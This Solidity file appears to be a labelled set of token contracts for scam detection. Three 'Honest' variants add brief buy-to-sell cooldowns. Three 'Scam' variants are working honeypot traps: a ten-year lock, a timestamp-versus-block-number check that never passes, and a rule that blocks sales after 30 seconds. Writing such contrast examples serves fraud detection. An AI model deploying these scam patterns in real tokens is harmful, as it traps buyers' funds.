// SPDX-License-Identifier: MIT
import "./base.sol";

/// What was bought in a block is not sold in it. The owner says once who the pair is.
contract HonestBlockPause is OwnedToken {
    mapping(address => uint256) internal bought;
    address internal pair;

    function setPair(address account) external onlyOwner {
        require(pair == address(0), "set");
        pair = account;
    }

    function _check(address from, address to, uint256) internal virtual override {
        if (from == pair) bought[to] = block.number;
        else if (to == pair) require(bought[from] < block.number, "wait");
    }
}

/// Half a minute between buying and selling.
contract HonestTimePause is HonestBlockPause {
    function _check(address from, address to, uint256) internal override {
        if (from == pair) bought[to] = block.timestamp;
        else if (to == pair) require(block.timestamp >= bought[from] + 30, "wait");
    }
}

/// The same, said by how long ago it was.
contract HonestPauseSince is HonestBlockPause {
    function _check(address from, address to, uint256) internal override {
        if (from == pair) bought[to] = block.timestamp;
        else if (to == pair) require(block.timestamp - bought[from] > 60, "wait");
    }
}

/// Ten years between buying and selling.
contract ScamYearsPause is HonestBlockPause {
    function _check(address from, address to, uint256) internal override {
        if (from == pair) bought[to] = block.timestamp;
        else if (to == pair) require(block.timestamp >= bought[from] + 3650 days, "wait");
    }
}

/// The block is held against the time, and is never reached by it.
contract ScamClockPause is HonestBlockPause {
    function _check(address from, address to, uint256) internal override {
        if (from == pair) bought[to] = block.timestamp;
        else if (to == pair) require(bought[from] < block.number, "wait");
    }
}

/// Whoever has not sold within half a minute never sells.
contract ScamHaste is HonestBlockPause {
    function _check(address from, address to, uint256) internal override {
        if (from == pair) bought[to] = block.timestamp;
        else if (to == pair) require(block.timestamp < bought[from] + 30, "late");
    }
}
